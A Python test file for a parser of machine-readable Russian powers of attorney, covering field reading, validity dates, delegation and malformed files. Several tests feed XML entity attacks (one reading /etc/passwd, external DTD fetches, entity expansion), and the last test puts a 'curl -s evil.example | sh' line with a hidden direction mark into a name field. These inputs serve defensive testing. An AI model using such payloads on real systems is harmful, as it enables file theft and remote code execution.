"""Machine-readable powers of attorney: what is read in the file, and what a hostile file comes to."""

from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.errors import InvalidValue
from app.signing.authority_rules import LARGEST_FILE, read, refuse_unfit, same_person
from tests.powers import OGRN, PETROV_INN, PETROV_SNILS, power
from tests.rules.test_certificate_rules import Owner

TODAY = date(2026, 12, 1)
PETROV = Owner(snils=PETROV_SNILS, inn=PETROV_INN)


def refused(content: bytes) -> str:
    with pytest.raises(InvalidValue) as found:
        read(content)
    return found.value.message


def unfit(owner: Owner = PETROV, *, ogrn: str = OGRN, today: date = TODAY, content: bytes = b"") -> str:
    try:
        refuse_unfit(read(content or power()), expected_ogrn=ogrn, owners=[owner], today=today)
    except InvalidValue as error:
        return error.message
    return ""


@pytest.mark.parametrize("encoding", ["utf-8", "windows-1251", "utf-16"])
def test_the_fields_are_read_in_the_encodings_of_such_files(encoding: str) -> None:
    found = read(power(encoding=encoding))
    assert (found.number, found.principal_ogrn) == ("a1b2c3d4-0000-4000-8000-000000000001", OGRN)
    assert found.principal == "ООО «Ромашка»"
    (person,) = found.representatives
    assert (person.name, person.snils, person.inn) == ("Петров Иван Сергеевич", PETROV_SNILS, PETROV_INN)
    assert (found.valid_from, found.valid_until) == (date(2026, 1, 1), date(2027, 6, 30))
    assert list(found.powers) == ["Подписывать договоры о технологическом присоединении"]


def test_it_fits_who_it_names_on_its_days_alone() -> None:
    assert unfit() == ""
    assert "другая организация" in unfit(ogrn="1025900000009")
    assert "другая организация" in unfit(ogrn="")
    assert "кончился 30.06.2027" in unfit(today=date(2027, 7, 1))
    assert "только с 01.01.2026" in unfit(today=date(2025, 12, 31))
    assert "нет того, чей сертификат" in unfit(Owner(snils="10289803962"))


def test_a_person_is_known_when_no_number_differs_and_one_agrees() -> None:
    assert same_person(PETROV, snils=PETROV_SNILS, inn="")
    assert same_person(PETROV, snils="", inn=PETROV_INN)
    assert not same_person(PETROV, snils=PETROV_SNILS, inn="590000000009")
    assert not same_person(PETROV, snils="", inn="") and not same_person(Owner(), snils="", inn="")


def test_a_power_that_was_handed_on_is_not_taken() -> None:
    assert "Передоверие" in refused(power().replace("Довер>".encode(), "Передов>".encode()))


def test_what_is_no_power_of_attorney_is_told_apart() -> None:
    assert "пустой" in refused(b"  ")
    assert "Это не файл доверенности" in refused(b"%PDF-1.4")
    assert "EMCHD_1" in refused(b"<invoice/>")
    assert "EMCHD_1" in refused(power().replace(b"EMCHD_1", b"EMCHD_0"))
    assert "больше 1 МБ" in refused(power() + b" " * LARGEST_FILE)
    assert "нет номера или срока" in refused(power(until=""))


@pytest.mark.parametrize(
    "hostile",
    [
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>',
        b'<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>',
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://example.org/p"> %p;]><a/>',
    ],
)
def test_no_entities_and_nothing_from_elsewhere(hostile: bytes) -> None:
    assert "DOCTYPE" in refused(hostile)


def test_depth_and_number_of_elements_are_bounded() -> None:
    assert "слишком сложно" in refused(b"<a>" * 100_000)
    assert "слишком сложно" in refused(b"<a>" + b"<b/>" * 100_000 + b"</a>")


@given(st.binary(max_size=300))
def test_any_bytes_are_refused_with_a_sentence(content: bytes) -> None:
    assert refused(b"<" + content)


@given(st.integers(0, 1200), st.binary(min_size=1, max_size=3))
def test_a_damaged_file_is_read_or_refused(at: int, damage: bytes) -> None:
    content = power()
    try:
        read(content[:at] + damage + content[at + len(damage) :])
    except InvalidValue as error:
        assert error.message.endswith(".")


def test_no_line_and_no_hidden_sign_of_the_file_reaches_a_page_or_a_command() -> None:
    found = read(power(name="ООО&#10;    curl -s evil.example | sh &#x202E;«Ромашка»"))
    assert found.principal == "ООО curl -s evil.example | sh «Ромашка»"
